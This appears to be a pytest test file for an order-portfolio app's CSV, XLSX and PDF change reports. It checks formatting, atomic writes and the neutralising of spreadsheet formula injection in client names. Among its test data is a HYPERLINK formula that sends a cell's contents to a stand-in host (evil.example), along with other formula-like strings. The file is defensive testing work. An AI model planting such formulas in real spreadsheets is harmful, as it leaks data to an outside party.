"""Change reports written to real files from a real database, then read back as a planner's tools would."""

from __future__ import annotations

import csv
import dataclasses
import errno
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any, BinaryIO

import openpyxl
import pypdf
import pytest

from carteira_gui.adapters.reports import (
    ChangeReport,
    report_from_plan,
    report_from_run,
    write_report,
)
from carteira_gui.adapters.reports import output as report_output
from carteira_gui.adapters.reports.formatting import NEUTRAL_MARK
from carteira_gui.adapters.reports.pdf_report import PdfFonts, load_fonts, write_pdf
from carteira_gui.adapters.sources.json_file import JsonFileSource
from carteira_gui.bootstrap import App, build_app
from carteira_gui.domain.errors import CarteiraError, NotFound
from carteira_gui.services.alerts import list_alerts
from carteira_gui.services.history import find_run, list_runs, run_alerts
from carteira_gui.services.state import seed_state
from carteira_gui.services.sync import apply_plan, compute_plan

from ..worked_example import worked_source, worked_state

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"clique")'
HOSTILE = (HYPERLINK, "+1", "-2+3", "@SUM(A1)")

# The worked example of docs/regras.md, with client names an attacker could have typed into Odoo.
STATE: dict[str, Any] = worked_state(HYPERLINK, "+1", "Distribuidora São João")
WORKED_SOURCE: list[dict[str, Any]] = worked_source("-2+3")
# A second sync: a fractional increase and an ALTERADO line whose new client is hostile.
SECOND_SOURCE: list[dict[str, Any]] = [
    {"num_pedido": "PED001", "cod_produto": "PROD001", "qtd_saldo": "1234.5"},
    {
        "num_pedido": "PED001",
        "cod_produto": "PROD002",
        "qtd_saldo": 70,
        "cliente": "@SUM(A1)",
        "data_entrega": "2026-12-24",
        "preco": "12.5",
    },
    {"num_pedido": "PED003", "cod_produto": "PROD001", "qtd_saldo": 30},
]


def _write_json(path: Path, data: object) -> Path:
    import json

    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def _sync(app: App, source: Path) -> int:
    plan, _timings = compute_plan(app.uow, JsonFileSource(source), app.options)
    result = apply_plan(app.uow, plan, usuario="ana", allow_mass_removal=True)
    assert result.sync_id is not None
    return result.sync_id


@pytest.fixture
def app(db_url: str) -> Iterator[App]:
    application = build_app(db_url=db_url)
    seed_state(application.uow, STATE, "teste", replace=False, db_description="teste")
    try:
        yield application
    finally:
        application.close()


@pytest.fixture
def worked(app: App, tmp_path: Path) -> ChangeReport:
    """The report of the worked example applied to the database (sync #1 of this database)."""
    run_id = _sync(app, _write_json(tmp_path / "odoo.json", WORKED_SOURCE))
    return report_of(app.uow, run_id)


@pytest.fixture
def second(app: App, worked: ChangeReport, tmp_path: Path) -> ChangeReport:
    """The latest sync: PED001/PROD001 grows to 1234,5 and PED001/PROD002 gets a hostile client."""
    _sync(app, _write_json(tmp_path / "odoo2.json", SECOND_SOURCE))
    return report_of(app.uow, None)


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """An empty folder for the reports (the database and the source files live beside it)."""
    folder = tmp_path / "relatorios"
    folder.mkdir()
    return folder


# -- reading the files back --------------------------------------------------------------------------


def read_csv(path: Path) -> list[list[str]]:
    """The CSV's rows, header first (one table: no empty row, no second header)."""
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 BOM"
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=";"))
    assert all(rows), "an empty row would split the table for Excel's filter"
    assert all(len(row) == len(rows[0]) for row in rows), "every row has the header's columns"
    return rows


def as_dicts(rows: list[list[str]]) -> list[dict[str, str]]:
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def csv_changes(path: Path) -> dict[tuple[str, str], dict[str, str]]:
    return {(r["Pedido"], r["Produto"]): r for r in as_dicts(read_csv(path))}


def pdf_text(path: Path) -> str:
    reader = pypdf.PdfReader(path)
    return "\n".join(page.extract_text() for page in reader.pages)


def sheet_rows(ws: Any) -> list[dict[str, Any]]:
    header = [c.value for c in ws[1]]
    return [dict(zip(header, (c.value for c in row), strict=True)) for row in ws.iter_rows(min_row=2)]


# -- the model ---------------------------------------------------------------------------------------


def test_report_of_the_worked_example_has_the_runs_facts_and_every_change(worked: ChangeReport) -> None:
    assert worked.run_id is not None
    assert worked.applied
    assert worked.who == "ana"
    assert worked.origem == "arquivo odoo.json"
    assert dict(worked.counts) == {
        "REDUCAO": 1,
        "AUMENTO": 1,
        "NOVO": 1,
        "REMOVIDO": 1,
        "ALTERADO": 0,
        "INALTERADO": 0,
    }
    assert dict(worked.alert_counts) == {"CRITICO": 1, "ATENCAO": 0, "INFO": 0}
    assert worked.delta_total == Decimal(-170)
    assert worked.duration_s is not None
    assert worked.duration_s >= 0
    assert (worked.lines_before, worked.lines_after) == (3, 3)
    [removed] = worked.group("REMOVIDO")
    assert (removed.num_pedido, removed.cod_produto, removed.nivel) == ("PED002", "PROD001", "CRITICO")
    assert removed.delta == Decimal(-200)
    assert removed.impacto == "−100 livre; −100 LOTE-1 COTADO"
    [reduced] = worked.group("REDUCAO")
    assert reduced.impacto == "−20 livre"
    assert reduced.nivel is None
    [alert] = worked.alerts
    assert (alert.nivel, alert.tipo, alert.lote, alert.separacao_id) == ("CRITICO", "REMOCAO", "LOTE-1", 3)
    assert alert.id is not None
    assert alert.sync_id == worked.run_id


def test_report_of_the_latest_run_by_default_and_of_an_older_run_by_id(
    app: App, worked: ChangeReport, second: ChangeReport
) -> None:
    assert second.run_id == (worked.run_id or 0) + 1
    assert dict(second.counts)["ALTERADO"] == 1
    [changed] = second.group("ALTERADO")
    assert changed.campos == (
        "cliente: +1 → @SUM(A1)",
        "data de entrega: (vazio) → 24/12/2026",
        "preço: (vazio) → 12,5",
    )
    again = report_of(app.uow, worked.run_id)
    assert again.lines == worked.lines
    assert again.alerts == worked.alerts


def test_a_missing_run_raises_not_found(db_url: str) -> None:
    empty = build_app(db_url=db_url)
    try:
        with pytest.raises(NotFound):
            report_of(empty.uow, None)
        with pytest.raises(NotFound, match="99"):
            report_of(empty.uow, 99)
    finally:
        empty.close()


# -- CSV ---------------------------------------------------------------------------------------------


def test_csv_of_the_worked_example_is_one_table_excel_filters_and_pivots(worked: ChangeReport, tmp_path: Path) -> None:
    path = write_report(worked, "csv", tmp_path / "mudancas.csv")
    rows = read_csv(path)
    assert rows[0] == [
        "Tipo",
        "Nível",
        "Pedido",
        "Produto",
        "Cliente",
        "Antes",
        "Depois",
        "Variação",
        "Não coberto",
        "Impacto",
        "Campos alterados",
        "Alertas",
        "Sincronização",
    ]
    assert len(rows) == 1 + len(worked.lines)  # no second table, no summary below
    changes = csv_changes(path)
    # Destructive first, as the window shows them; one word per kind.
    assert [r["Tipo"] for r in as_dicts(rows)] == ["Removida", "Redução", "Aumento", "Nova"]
    removed = changes[("PED002", "PROD001")]
    assert removed["Nível"] == "CRÍTICO"
    assert removed["Cliente"] == "Distribuidora São João"
    assert (removed["Antes"], removed["Depois"], removed["Variação"]) == ("200", "0", "-200")
    # Plain ASCII minus; the text starts with "-", so it is behind the invisible mark (Excel shows no apostrophe).
    assert removed["Impacto"] == NEUTRAL_MARK + "-100 livre; -100 LOTE-1 COTADO"
    assert removed["Alertas"].startswith("CRÍTICO: Separação COTADO #3 (LOTE-1) de PED002/PROD001 removida do Odoo")
    assert removed["Sincronização"] == str(worked.run_id)
    reduced = changes[("PED001", "PROD001")]
    assert (reduced["Antes"], reduced["Depois"], reduced["Variação"], reduced["Não coberto"]) == (
        "100",
        "80",
        "-20",
        "0",
    )
    assert reduced["Alertas"] == ""
    assert changes[("PED001", "PROD002")]["Variação"] == "20"
    assert changes[("PED003", "PROD001")]["Depois"] == "30"
    assert "\u2212" not in path.read_text(encoding="utf-8-sig")


def test_csv_of_a_plan_says_it_was_not_applied_and_names_summed_lines(app: App, tmp_path: Path) -> None:
    doubled = [*WORKED_SOURCE, {"num_pedido": "PED003", "cod_produto": "PROD001", "qtd_saldo": 5}]
    plan, _timings = compute_plan(app.uow, JsonFileSource(_write_json(tmp_path / "o.json", doubled)), app.options)
    path = write_report(report_from_plan(plan, usuario="bia"), "csv", tmp_path / "plano.csv")
    changes = csv_changes(path)
    assert {r["Sincronização"] for r in changes.values()} == {"plano não aplicado"}
    assert changes[("PED003", "PROD001")]["Impacto"] == NEUTRAL_MARK + "+35 livre [2 linhas do Odoo somadas]"


def test_csv_uses_the_decimal_comma_without_thousands_separator(second: ChangeReport, tmp_path: Path) -> None:
    path = write_report(second, "csv", tmp_path / "mudancas.csv")
    grown = csv_changes(path)[("PED001", "PROD001")]
    assert (grown["Antes"], grown["Depois"], grown["Variação"]) == ("80", "1234,5", "1154,5")
    # Starts with "+": behind the invisible mark, no apostrophe for the planner to see.
    assert grown["Impacto"] == NEUTRAL_MARK + "+1154,5 livre"
    changed = csv_changes(path)[("PED001", "PROD002")]
    assert (
        changed["Campos alterados"]
        == "cliente: +1 → @SUM(A1); data de entrega: (vazio) → 24/12/2026; preço: (vazio) → 12,5"
    )


def test_csv_neutralises_formulas_in_hostile_client_names(second: ChangeReport, tmp_path: Path) -> None:
    rows = csv_changes(write_report(second, "csv", tmp_path / "second.csv"))
    assert rows[("PED001", "PROD002")]["Cliente"] == NEUTRAL_MARK + "@SUM(A1)"
    assert rows[("PED001", "PROD001")]["Cliente"] == NEUTRAL_MARK + HYPERLINK


def test_csv_of_the_worked_example_neutralises_every_hostile_name(worked: ChangeReport, tmp_path: Path) -> None:
    rows = csv_changes(write_report(worked, "csv", tmp_path / "w.csv"))
    clients = {key: row["Cliente"] for key, row in rows.items()}
    assert clients[("PED001", "PROD001")] == NEUTRAL_MARK + HYPERLINK
    assert clients[("PED001", "PROD002")] == NEUTRAL_MARK + "+1"
    assert clients[("PED003", "PROD001")] == NEUTRAL_MARK + "-2+3"
    # Numbers are never touched, negative ones included.
    assert rows[("PED001", "PROD001")]["Variação"] == "-20"
    for row in rows.values():
        for column, value in row.items():
            assert not value.startswith("'"), (column, value)  # no apostrophe shows in Excel
            if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert column in ("Antes", "Depois", "Variação", "Não coberto"), (column, value)
                Decimal(value.replace(",", "."))  # a number, not a formula


# -- XLSX --------------------------------------------------------------------------------------------

KIND_SHEETS = ["Removida", "Redução", "Aumento", "Nova", "Alterada"]


def test_xlsx_of_the_worked_example_has_formatted_sheets_per_kind(worked: ChangeReport, tmp_path: Path) -> None:
    path = write_report(worked, "xlsx", tmp_path / "mudancas.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Resumo", *KIND_SHEETS, "Alertas"]
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2", ws.title
        assert ws.auto_filter.ref, ws.title
        assert ws.auto_filter.ref.startswith("A1:")
        assert ws.auto_filter.ref.endswith(str(max(ws.max_row, 1)))
        for cell in ws[1]:
            assert cell.font.b, (ws.title, cell.value)
            assert cell.fill.fill_type == "solid"
            assert cell.fill.fgColor.rgb.endswith("1F4E78")

    removed = wb["Removida"]
    assert [c.value for c in removed[1]][:8] == [
        "Nível",
        "Pedido",
        "Produto",
        "Cliente",
        "Antes",
        "Depois",
        "Variação",
        "Não coberto",
    ]
    [row] = sheet_rows(removed)
    assert row["Nível"] == "CRÍTICO"
    assert (row["Pedido"], row["Produto"], row["Cliente"]) == ("PED002", "PROD001", "Distribuidora São João")
    assert (row["Antes"], row["Depois"], row["Variação"], row["Não coberto"]) == (200, 0, -200, 0)
    for cell in removed[2][4:8]:
        assert cell.data_type == "n"
        assert isinstance(cell.value, int | float)
        assert cell.number_format == "#,##0.000"
    assert row["Impacto"] == "−100 livre; −100 LOTE-1 COTADO"
    assert removed["A2"].fill.fgColor.rgb.endswith("FFC7CE")  # CRÍTICO stands out
    # The client column is wide enough to read; no column is absurdly wide.
    assert removed.column_dimensions["D"].width >= len("Distribuidora São João")
    assert all(removed.column_dimensions[c].width <= 60 for c in "ABCDEFGHIJ")

    assert len(sheet_rows(wb["Redução"])) == 1
    assert sheet_rows(wb["Alterada"]) == []

    [alert] = sheet_rows(wb["Alertas"])
    assert (alert["Nível"], alert["Lote"], alert["Separação"], alert["Qtd anterior"], alert["Qtd nova"]) == (
        "CRÍTICO",
        "LOTE-1",
        3,
        100,
        0,
    )
    assert alert["Nº"] == worked.alerts[0].id

    summary = {r["Informação"]: r["Valor"] for r in sheet_rows(wb["Resumo"])}
    assert summary["Sincronização"] == worked.run_id
    assert summary["Redução"] == 1
    assert summary["Removida"] == 1
    assert summary["Alertas CRÍTICO"] == 1
    assert summary["Variação total de quantidade"] == -170
    assert summary["Duração"].endswith(("ms", " s"))  # the History's words for it
    assert summary["Aplicada por"] == "ana"
    assert wb["Resumo"]["B5"].is_date  # "Data": a real date cell, formatted dd/mm/yyyy
    assert wb["Resumo"]["B5"].number_format == "dd/mm/yyyy hh:mm"


def test_xlsx_stores_fractional_quantities_as_numbers(second: ChangeReport, tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(write_report(second, "xlsx", tmp_path / "m.xlsx"))
    [row] = sheet_rows(wb["Aumento"])
    assert (row["Antes"], row["Depois"], row["Variação"]) == (80, 1234.5, 1154.5)


def test_xlsx_keeps_hostile_client_names_as_plain_text(second: ChangeReport, tmp_path: Path) -> None:
    path = write_report(second, "xlsx", tmp_path / "m.xlsx")
    wb = openpyxl.load_workbook(path)
    clients = {}
    for title in KIND_SHEETS:
        ws = wb[title]
        header = [c.value for c in ws[1]]
        col = header.index("Cliente")
        for row in ws.iter_rows(min_row=2):
            cell = row[col]
            clients[(row[1].value, row[2].value)] = cell
            assert cell.data_type == "s"
    assert clients[("PED001", "PROD002")].value == "@SUM(A1)"
    assert clients[("PED001", "PROD001")].value == HYPERLINK
    assert clients[("PED001", "PROD001")].quotePrefix
    # No formula anywhere in the file: not one <f> element in any sheet.
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name)
                assert b"<f>" not in xml, name
                assert b"<f " not in xml, name


def test_xlsx_of_the_worked_example_keeps_every_hostile_name(worked: ChangeReport, tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(write_report(worked, "xlsx", tmp_path / "w.xlsx"))
    seen = set()
    for title in KIND_SHEETS:
        for row in wb[title].iter_rows(min_row=2):
            cell = row[3]
            if cell.value in HOSTILE:
                assert cell.data_type == "s"
                assert cell.quotePrefix
                seen.add(cell.value)
    assert seen == {HYPERLINK, "+1", "-2+3"}


# -- PDF ---------------------------------------------------------------------------------------------


def test_pdf_of_the_worked_example_shows_the_critical_line_and_the_counts(worked: ChangeReport, tmp_path: Path) -> None:
    path = write_report(worked, "pdf", tmp_path / "mudancas.pdf")
    reader = pypdf.PdfReader(path)
    box = reader.pages[0].mediabox
    assert (round(float(box.width)), round(float(box.height))) == (842, 595)  # A4 landscape
    text = pdf_text(path)
    assert f"Relatório de mudanças — sincronização #{worked.run_id}" in text
    assert "CRÍTICO" in text
    assert "LOTE-1" in text
    assert "PED002" in text
    assert "Distribuidora São João" in text
    assert "Removida (1)" in text
    assert "Redução (1)" in text
    assert "Alterada (0)" in text
    assert text.index("Removida (1)") < text.index("Redução (1)")  # destructive first, as in the window
    assert "Alertas (1)" in text
    assert "removida do Odoo" in text
    assert f"#{worked.run_id}" in text
    assert "−100 livre; −100 LOTE-1 COTADO" in text or "-100 livre; -100 LOTE-1 COTADO" in text


@pytest.mark.parametrize("font", ["system", "bundled"])
def test_pdf_never_splits_a_lote_code_across_lines(worked: ChangeReport, tmp_path: Path, font: str) -> None:
    codes = [f"LOTE-20261101-{n:04d}" for n in range(1, 4)]
    lines = tuple(
        dataclasses.replace(line, impacto=f"−12,5 livre; −100 {codes[0]} COTADO; −3 {codes[1]} ABERTO")
        for line in worked.lines
    )
    alerts = tuple(
        dataclasses.replace(worked.alerts[0], lote=code, separacao_id=1000 + n, id=n)
        for n, code in enumerate(codes, start=1)
    )
    path = tmp_path / "lotes.pdf"
    fonts = load_fonts() if font == "system" else load_fonts(())
    with path.open("wb") as stream:
        write_pdf(dataclasses.replace(worked, lines=lines, alerts=alerts), stream, fonts=fonts)
    words = pdf_text(path).split()
    for code in codes:
        assert code in words, code  # whole, never "LOTE-20261101-0 / 001"
    assert "#1001" in words


def test_pdf_and_xlsx_write_the_duration_as_the_history_does(worked: ChangeReport, tmp_path: Path) -> None:
    report = dataclasses.replace(worked, duration_s=0.005)
    assert "Duração\n5 ms" in pdf_text(write_report(report, "pdf", tmp_path / "d.pdf"))
    wb = openpyxl.load_workbook(write_report(report, "xlsx", tmp_path / "d.xlsx"))
    assert {r["Informação"]: r["Valor"] for r in sheet_rows(wb["Resumo"])}["Duração"] == "5 ms"


def test_pdf_falls_back_to_the_font_bundled_with_reportlab(worked: ChangeReport, tmp_path: Path) -> None:
    fonts = load_fonts(())  # no system font at all: reportlab's own Vera
    path = tmp_path / "vera.pdf"
    with path.open("wb") as stream:
        write_pdf(worked, stream, fonts=fonts)
    text = pdf_text(path)
    assert "Distribuidora São João" in text
    assert "100 -> 0" in text  # Vera has no "→"
    assert "CRÍTICO" in text


def test_pdf_with_standard_fonts_only_still_writes_pt_br(worked: ChangeReport, tmp_path: Path) -> None:
    lines = tuple(dataclasses.replace(line, cliente=f"{line.cliente} 漢字 ✓") for line in worked.lines)
    path = tmp_path / "helvetica.pdf"
    with path.open("wb") as stream:
        write_pdf(dataclasses.replace(worked, lines=lines), stream, fonts=PdfFonts("Helvetica", "Helvetica-Bold", None))
    text = pdf_text(path)
    assert "São João ?? ?" in text  # what Helvetica cannot encode becomes "?", never an error
    assert "-100 livre; -100 LOTE-1 COTADO" in text


def test_pdf_survives_markup_control_characters_and_very_long_texts(worked: ChangeReport, tmp_path: Path) -> None:
    evil = "<b>&amp; <font name='x'>" + "\x00\x07" + "A" * 5000
    lines = tuple(dataclasses.replace(line, cliente=evil, impacto=evil) for line in worked.lines)
    alerts = tuple(dataclasses.replace(a, mensagem=evil * 3) for a in worked.alerts)
    report = dataclasses.replace(worked, lines=lines, alerts=alerts)
    text = pdf_text(write_report(report, "pdf", tmp_path / "evil.pdf"))
    assert "<b>&amp;" in text
    wb = openpyxl.load_workbook(write_report(report, "xlsx", tmp_path / "evil.xlsx"))
    assert wb["Removida"]["D2"].value.startswith("<b>&amp; <font name='x'>\ufffd\ufffdAAA")
    rows = csv_changes(write_report(report, "csv", tmp_path / "evil.csv"))
    assert rows[("PED002", "PROD001")]["Cliente"].endswith("A" * 5000)


# -- an unapplied plan -------------------------------------------------------------------------------


def test_report_of_a_reviewed_plan_that_is_not_applied(app: App, tmp_path: Path) -> None:
    source = _write_json(tmp_path / "odoo.json", WORKED_SOURCE)
    plan, _timings = compute_plan(app.uow, JsonFileSource(source), app.options)
    report = report_from_plan(plan, usuario="bia")
    assert report.run_id is None
    assert not report.applied
    assert report.who == "bia"
    assert report.when == plan.gerado_em
    assert dict(report.counts)["REMOVIDO"] == 1
    [removed] = report.group("REMOVIDO")
    assert (removed.nivel, removed.impacto) == ("CRITICO", "−100 livre; −100 LOTE-1 COTADO")
    [alert] = report.alerts
    assert (alert.id, alert.lote) == (None, "LOTE-1")

    facts = dict(report.facts())
    assert facts["Situação"] == "Plano revisado, ainda NÃO aplicado"
    assert facts["Sincronização"] is None
    assert facts["Revisado por"] == "bia"
    assert report_from_plan(plan).who == "não informado"  # never the OS login
    rows = csv_changes(write_report(report, "csv", tmp_path / "plano.csv"))
    assert rows[("PED002", "PROD001")]["Sincronização"] == "plano não aplicado"
    assert rows[("PED002", "PROD001")]["Alertas"].startswith("CRÍTICO: ")
    assert csv_changes(tmp_path / "plano.csv")[("PED003", "PROD001")]["Cliente"] == NEUTRAL_MARK + "-2+3"

    wb = openpyxl.load_workbook(write_report(report, "xlsx", tmp_path / "plano.xlsx"))
    assert [r["Nível"] for r in sheet_rows(wb["Alertas"])] == ["CRÍTICO"]
    text = pdf_text(write_report(report, "pdf", tmp_path / "plano.pdf"))
    assert "PLANO NÃO APLICADO" in text
    assert "plano não aplicado" in text
    # Exporting a plan changes nothing in the database.
    assert list_runs(app.uow) == []
    assert list_alerts(app.uow, include_acknowledged=True) == []


# -- failures: nothing half-written ------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "pdf"])
def test_an_unwritable_path_gives_one_clear_sentence_and_leaves_no_file(
    worked: ChangeReport, out: Path, fmt: str
) -> None:
    missing = out / "nao-existe" / f"r.{fmt}"
    with pytest.raises(CarteiraError, match=r"não pôde ser gravado.*a pasta não existe.*nenhum arquivo") as info:
        write_report(worked, fmt, missing)
    assert str(info.value).count("\n") == 0
    assert not missing.parent.exists()

    a_file = out / "arquivo.txt"
    a_file.write_text("x")
    with pytest.raises(CarteiraError, match="não pôde ser gravado"):
        write_report(worked, fmt, a_file / f"r.{fmt}")

    folder = out / "pasta"
    folder.mkdir()
    with pytest.raises(CarteiraError, match="já existe uma pasta"):
        write_report(worked, fmt, folder)
    assert sorted(p.name for p in out.iterdir()) == ["arquivo.txt", "pasta"]
    assert list(folder.iterdir()) == []


def test_a_failure_halfway_keeps_the_previous_report_and_leaves_no_temporary_file(
    worked: ChangeReport, out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = write_report(worked, "csv", out / "r.csv")
    before = target.read_bytes()

    def disk_full(report: ChangeReport, stream: BinaryIO) -> None:
        stream.write(b"half a report")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setitem(report_output.WRITERS, "csv", disk_full)
    with pytest.raises(CarteiraError, match="o disco está cheio"):
        write_report(worked, "csv", target)
    assert target.read_bytes() == before
    assert [p.name for p in out.iterdir()] == ["r.csv"]

    def bug(report: ChangeReport, stream: BinaryIO) -> None:
        stream.write(b"half")
        raise RuntimeError("bug")

    monkeypatch.setitem(report_output.WRITERS, "csv", bug)
    with pytest.raises(RuntimeError):
        write_report(worked, "csv", target)
    assert target.read_bytes() == before
    assert [p.name for p in out.iterdir()] == ["r.csv"]


def test_writing_again_replaces_the_report_whole(worked: ChangeReport, second: ChangeReport, out: Path) -> None:
    target = out / "r.xlsx"
    write_report(worked, "xlsx", target)
    write_report(second, ".XLSX", target)
    wb = openpyxl.load_workbook(target)
    assert {r["Informação"]: r["Valor"] for r in sheet_rows(wb["Resumo"])}["Sincronização"] == second.run_id
    assert [p.name for p in out.iterdir() if p.name.startswith(".")] == []


def test_a_report_gets_the_usual_file_permissions(worked: ChangeReport, out: Path) -> None:
    import os

    umask = os.umask(0o022)
    os.umask(umask)
    path = write_report(worked, "pdf", out / "r.pdf")
    assert path.stat().st_mode & 0o777 == 0o666 & ~umask  # not the private 0600 of a temporary file


def test_an_unknown_format_is_refused(worked: ChangeReport, out: Path) -> None:
    with pytest.raises(CarteiraError, match=r"'docx' não existe.*csv, xlsx, pdf"):
        write_report(worked, "docx", out / "r.docx")
    assert list(out.iterdir()) == []


def report_of(uow, run_id):
    """The report of a stored run, read as the report use case reads it."""
    with uow.reading() as session:
        run = find_run(session, run_id)
        return report_from_run(run, session.run_changes(run.id), run_alerts(session, run.id))
